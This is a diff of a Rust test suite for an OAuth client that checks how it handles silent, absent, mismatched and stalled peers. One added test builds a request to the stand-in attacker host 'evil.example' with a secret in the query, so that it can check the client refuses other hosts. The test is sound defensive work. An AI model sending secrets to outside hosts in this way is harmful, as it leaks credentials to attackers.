@@ -1,18 +1,18 @@
 //! Peers that are not there, say nothing, or speak something else.
 
-mod common;
-
 use std::io::{Read, Write};
 use std::net::{Shutdown, TcpListener};
 use std::thread;
 use std::time::Duration;
 
-use common::{client, flow, peer, read_request};
-use concur_oauth_blocking::{Client, Error, Stage};
+use concur_oauth::transport::Stage;
+use concur_oauth::{Error, Exchange, InputError, InstanceUrl, ResponseError, http};
 use concur_oauth_emulator::Server;
 
-#[test]
-fn silence_before_and_during_the_handshake() {
+use crate::columns::Transport;
+use crate::peers::{build, builder, client, flow, peer, read_request, url};
+
+pub(crate) fn silence_before_and_during_the_handshake<T: Transport>() {
     // Nothing; the beginning of a handshake record; a drip that would go on for a minute.
     for (bytes, drip) in [(0, false), (7, false), (3600, true)] {
         let (instance, peer) = peer(1, move |_, mut stream| {
@@ -29,7 +29,7 @@ fn silence_before_and_during_the_handshake() {
         });
         let instance = instance.to_string().replace("http:", "https:");
         let timeout = Duration::from_millis(200);
-        let client = Client::builder().timeout(timeout).build().unwrap();
+        let client = build::<T>(builder::<T>().timeout(timeout));
         let error = client.send(&instance.parse().unwrap(), flow()).unwrap_err();
         assert!(
             matches!(
@@ -46,14 +46,15 @@ fn silence_before_and_during_the_handshake() {
     }
 }
 
-#[test]
-fn nobody_there() {
+pub(crate) fn nobody_there<T: Transport>() {
     let listener = TcpListener::bind("127.0.0.1:0").unwrap();
     let address = listener.local_addr().unwrap();
     drop(listener);
     for scheme in ["http", "https"] {
         let instance = format!("{scheme}://{address}").parse().unwrap();
-        let error = Client::new().unwrap().send(&instance, flow()).unwrap_err();
+        let error = build::<T>(builder::<T>())
+            .send(&instance, flow())
+            .unwrap_err();
         assert!(
             matches!(
                 error,
@@ -68,10 +69,7 @@ fn nobody_there() {
         assert!(error.retry_after().is_some());
     }
     let nowhere = "https://does-not-exist.invalid".parse().unwrap();
-    let error = Client::builder()
-        .timeout(Duration::from_secs(5))
-        .build()
-        .unwrap()
+    let error = build::<T>(builder::<T>().timeout(Duration::from_secs(5)))
         .send(&nowhere, flow())
         .unwrap_err();
     assert!(
@@ -89,40 +87,65 @@ fn nobody_there() {
     );
 }
 
-#[test]
-fn tls_to_a_plain_port_and_plain_to_a_tls_port() {
+/// An exchange whose request leads elsewhere.
+struct Astray;
+
+impl Exchange for Astray {
+    type Output = ();
+    const RESENDABLE: bool = true;
+
+    fn into_request(self, _: &InstanceUrl) -> Result<http::Request<Vec<u8>>, InputError> {
+        Ok(http::Request::get("https://evil.example/?secret")
+            .body(Vec::new())
+            .unwrap())
+    }
+
+    fn parse(_: http::Response<&[u8]>, _: &InstanceUrl) -> Result<(), ResponseError> {
+        Ok(())
+    }
+}
+
+pub(crate) fn another_host_is_refused_before_anything_is_sent<T: Transport>() {
+    let server = Server::start().unwrap();
+    let client: T = client(&server);
+    let error = client.send(&url(&server), Astray).unwrap_err();
+    assert!(matches!(error, Error::Input(_)), "{error:?}");
+    assert!(!error.may_have_reached_concur());
+    assert_eq!(server.connections(), 0);
+}
+
+pub(crate) fn tls_to_a_plain_port_and_plain_to_a_tls_port<T: Transport>() {
     let plain = Server::builder().plain_http().start().unwrap();
     let instance = plain.url().replace("http:", "https:").parse().unwrap();
-    let error = client(&plain).send(&instance, flow()).unwrap_err();
+    let error = client::<T>(&plain).send(&instance, flow()).unwrap_err();
     assert!(matches!(error, Error::Tls { .. }), "{error:?}");
     assert!(!error.may_have_reached_concur());
     assert_eq!(plain.requests(), 0);
 
     let tls = Server::start().unwrap();
     let instance = tls.url().replace("https:", "http:").parse().unwrap();
-    let error = client(&tls).send(&instance, flow()).unwrap_err();
+    let error = client::<T>(&tls).send(&instance, flow()).unwrap_err();
     assert!(
         matches!(error, Error::Protocol(_) | Error::Interrupted { .. }),
         "{error:?}"
     );
 }
 
-#[test]
-fn an_answer_that_ends_before_it_begins() {
+pub(crate) fn an_answer_that_ends_before_it_begins<T: Transport>() {
     let (instance, peer) = peer(1, |_, mut stream| {
         stream.shutdown(Shutdown::Write).unwrap();
         read_request(&mut stream);
         let _ = stream.flush();
     });
-    let error = Client::new().unwrap().send(&instance, flow()).unwrap_err();
+    let error = build::<T>(builder::<T>())
+        .send(&instance, flow())
+        .unwrap_err();
     assert!(matches!(error, Error::Interrupted { .. }), "{error:?}");
     peer.join().unwrap();
 }
 
-/// On Linux, a listener whose queue is full drops what more comes, as a firewall does.
-#[cfg(target_os = "linux")]
-#[test]
-fn a_connect_that_never_completes() {
+/// A listener whose queue is full drops what more comes, as a firewall does; on Linux.
+pub(crate) fn a_connect_that_never_completes<T: Transport>() {
     let listener = TcpListener::bind("127.0.0.1:0").unwrap();
     let address = listener.local_addr().unwrap();
     let patience = Duration::from_millis(200);
@@ -131,7 +154,7 @@ fn a_connect_that_never_completes() {
         .collect();
     assert!(queue.len() < 10_000, "the queue has no end");
     for scheme in ["http", "https"] {
-        let client = Client::builder().timeout(patience).build().unwrap();
+        let client = build::<T>(builder::<T>().timeout(patience));
         let instance = format!("{scheme}://{address}").parse().unwrap();
         let error = client.send(&instance, flow()).unwrap_err();
         assert!(
